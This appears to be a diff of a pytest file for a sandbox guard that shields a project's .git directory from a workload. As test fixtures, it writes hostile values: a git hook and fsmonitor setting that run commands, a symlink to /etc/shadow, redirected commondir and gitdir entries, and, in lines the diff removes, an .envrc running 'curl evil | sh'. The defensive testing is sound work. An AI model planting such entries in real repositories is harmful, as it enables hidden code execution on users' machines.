@@ -168,43 +168,121 @@ def test_a_run_that_never_started_lists_no_watched_change(repo):
     assert g.check()["watched_changed"] == []
 
 
-def test_shadows_cover_the_existing_protected_paths(repo):
-    g = guarded(repo)
-    assert {".git/hooks", ".git/config", ".git/info"} <= set(g.shadowed())
-    assert ".git" not in g.shadowed() and ".envrc" not in g.shadowed()
-    assert ".git/hooks" not in guarded(repo, ".git/hooks").shadowed()
+GIT_ENV = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
+           "GIT_COMMITTER_EMAIL": "a@b", "GIT_CONFIG_GLOBAL": "/dev/null"}
 
 
-def test_a_write_into_a_shadow_is_listed_and_never_reaches_the_project(repo, tmp_path_factory):
-    config = (repo / ".git/config").read_bytes()
-    hooks = sorted(p.name for p in (repo / ".git/hooks").iterdir())
+def git(cwd: Path, *args: str, git_dir: Path | None = None) -> str:
+    """git in CWD; with GIT_DIR: as the workload sees it (the throwaway mounted at .git)."""
+    env = {**GIT_ENV, **({"GIT_DIR": str(git_dir), "GIT_WORK_TREE": str(cwd)} if git_dir else {})}
+    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout
+
+
+def mounted(mounts: list[tuple[str, Path]]) -> dict[str, Path]:
+    return dict(mounts)
+
+
+def test_the_git_directory_is_a_throwaway_with_the_data_bound_in(repo, tmp_path_factory):
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "one")
     g = guarded(repo)
     base = tmp_path_factory.mktemp("runs") / "shadows" / "run1"
-    copies = dict(g.shadows(base))
-    assert set(copies) == set(g.shadowed())
-    # The copies are the snapshot: same names, bytes and modes.
-    assert sorted(p.name for p in copies[".git/hooks"].iterdir()) == hooks
-    assert copies[".git/config"].read_bytes() == config
-    assert scan(base, (".git/hooks",), git_dirs=()) == {k: v for k, v in g.protected.items()
-                                                        if k == ".git/hooks" or k.startswith(".git/hooks/")}
-    # The workload writes where the project's would be mounted.
-    (copies[".git/hooks"] / "post-checkout").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
-    (copies[".git/hooks"] / "pre-commit.sample").unlink()
-    with open(copies[".git/config"], "a") as f:
-        f.write("[core]\n\tfsmonitor = /tmp/evil.sh\n")
-    (copies[".git/info"] / "attributes").symlink_to("/etc/shadow")
-    (repo / ".envrc").write_text("curl evil | sh\n")
+    mounts = g.shadows(base)
+    m = mounted(mounts)
+    # parents first; the data directories are the project's own
+    assert [r for r, _ in mounts][:1] == [".git"]
+    assert {m[".git/objects"], m[".git/refs"]} == {repo / ".git/objects", repo / ".git/refs"}
+    t = m[".git"]
+    assert not str(t).startswith(str(repo))
+    assert (t / "config").read_bytes() == (repo / ".git/config").read_bytes()
+    assert (t / "HEAD").read_bytes() == (repo / ".git/HEAD").read_bytes()
+    assert (t / "index").read_bytes() == (repo / ".git/index").read_bytes()
+    assert g.nested_shadows == mounts  # the project's .git is out of the workload's reach
+
+
+def simulate(repo: Path, mounts: list[tuple[str, Path]], tmp: Path) -> Path:
+    """The workload's view of the project's git directory: the throwaway with the bound
+    data directories symlinked in (a bind mount in the container)."""
+    m = mounted(mounts)
+    for rel, src in mounts:
+        if rel != ".git" and rel.startswith(".git/") and src.is_relative_to(repo):
+            target = m[".git"] / rel.split("/", 1)[1]
+            target.rmdir()
+            target.symlink_to(src)
+    return m[".git"]
+
+
+def test_the_workloads_commit_reaches_the_project_and_its_config_does_not(repo, tmp_path_factory):
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "one")
+    config = (repo / ".git/config").read_bytes()
+    g = guarded(repo)
+    base = tmp_path_factory.mktemp("runs") / "s"
+    view = simulate(repo, g.shadows(base), base)
+    (repo / "src.txt").write_text("fixed\n")
+    git(repo, "add", "src.txt", git_dir=view)
+    git(repo, "commit", "-qm", "work", git_dir=view)
+    git(repo, "config", "core.fsmonitor", "touch /tmp/pwned", git_dir=view)
+    (view / "commondir").write_text("../evil\n")
+    (view / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
     rec = g.check()
     refused = {(r["path"], r["change"], r["how"]) for r in rec["refused"]}
-    assert refused == {(".git/hooks/post-checkout", "created", "shadowed"),
-                       (".git/hooks/pre-commit.sample", "deleted", "shadowed"),
-                       (".git/config", "modified", "shadowed"),
-                       (".git/info/attributes", "created", "shadowed"),
-                       (".envrc", "created", "put back")}, refused
-    assert rec["restored"] and "warning" not in rec
-    assert (repo / ".git/config").read_bytes() == config
-    assert sorted(p.name for p in (repo / ".git/hooks").iterdir()) == hooks
+    assert refused == {(".git/config", "modified", "shadowed"), (".git/commondir", "created", "shadowed"),
+                       (".git/hooks/post-checkout", "created", "shadowed")}, refused
+    assert rec["restored"] and "warning" not in rec, rec
+    assert (repo / ".git/config").read_bytes() == config and not (repo / ".git/commondir").exists()
+    assert git(repo, "log", "--format=%s").split() == ["work", "one"]
+    assert git(repo, "status", "--porcelain") == ""
     assert not base.exists() and g.shadow is None
+
+
+def test_a_data_file_the_host_changed_meanwhile_is_kept(repo, tmp_path_factory):
+    g = guarded(repo)
+    base = tmp_path_factory.mktemp("runs") / "s"
+    view = simulate(repo, g.shadows(base), base)
+    (view / "HEAD").write_text("ref: refs/heads/workload\n")
+    (repo / ".git/HEAD").write_text("ref: refs/heads/host\n")
+    rec = g.check()
+    assert (repo / ".git/HEAD").read_text() == "ref: refs/heads/host\n"
+    assert ".git/HEAD changed on the host while the run ran" in rec["warning"], rec
+
+
+def test_a_nested_repository_the_workload_made_is_removed_and_listed(repo, tmp_path_factory):
+    (repo / "existing").mkdir()
+    git(repo / "existing", "init", "-q")
+    g = guarded(repo)
+    assert "existing/.git" in g.git_dirs
+    mounts = mounted(g.shadows(tmp_path_factory.mktemp("runs") / "s"))
+    # a nested repository's data is not bound into the workload's nested containers
+    assert "existing/.git/objects" in mounts
+    assert "existing/.git/objects" not in dict(g.nested_shadows) and "existing/.git" in dict(g.nested_shadows)
+    git(repo, "init", "-q", "vendor-lib")
+    (repo / "sub").mkdir()
+    (repo / "sub/.git").write_text("gitdir: ../evil\n")
+    (repo / "existing/.git/config").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")  # past the mount
+    rec = g.check()
+    refused = {(r["path"], r["change"], r["how"]) for r in rec["refused"]}
+    assert {("vendor-lib/.git", "created", "put back"), ("sub/.git", "created", "put back"),
+            ("existing/.git/config", "modified", "put back")} <= refused, refused
+    assert not (repo / "vendor-lib/.git").exists() and not (repo / "sub/.git").exists()
+    assert (repo / "vendor-lib").is_dir() and rec["restored"], rec
+
+
+def test_a_project_that_is_no_repository_gets_an_empty_throwaway(tmp_path, tmp_path_factory):
+    (tmp_path / "a.txt").write_text("a")
+    g = guarded(tmp_path)
+    m = mounted(g.shadows(tmp_path_factory.mktemp("runs") / "s"))
+    assert list(m) == [".git"] and list(m[".git"].iterdir()) == []
+    (tmp_path / ".git").mkdir()  # the engine's mount point
+    rec = g.check()
+    assert rec["refused"] == [] and not (tmp_path / ".git").exists(), rec
+    g = guarded(tmp_path)
+    m = mounted(g.shadows(tmp_path_factory.mktemp("runs") / "s2"))
+    git(m[".git"], "init", "-q", "--bare")
+    (tmp_path / ".git").mkdir()
+    rec = g.check()
+    assert [(r["path"], r["how"]) for r in rec["refused"]] == [(".git", "shadowed")], rec
+    assert not (tmp_path / ".git").exists()
 
 
 def test_an_untouched_shadow_is_no_refusal(repo, tmp_path_factory):
@@ -213,6 +291,7 @@ def test_an_untouched_shadow_is_no_refusal(repo, tmp_path_factory):
     g.shadows(base)
     rec = g.check()
     assert rec["refused"] == [] and rec["restored"] and not base.exists()
+    assert "warning" not in rec, rec
 
 
 def test_huge_protected_trees_are_refused_up_front(repo, monkeypatch):
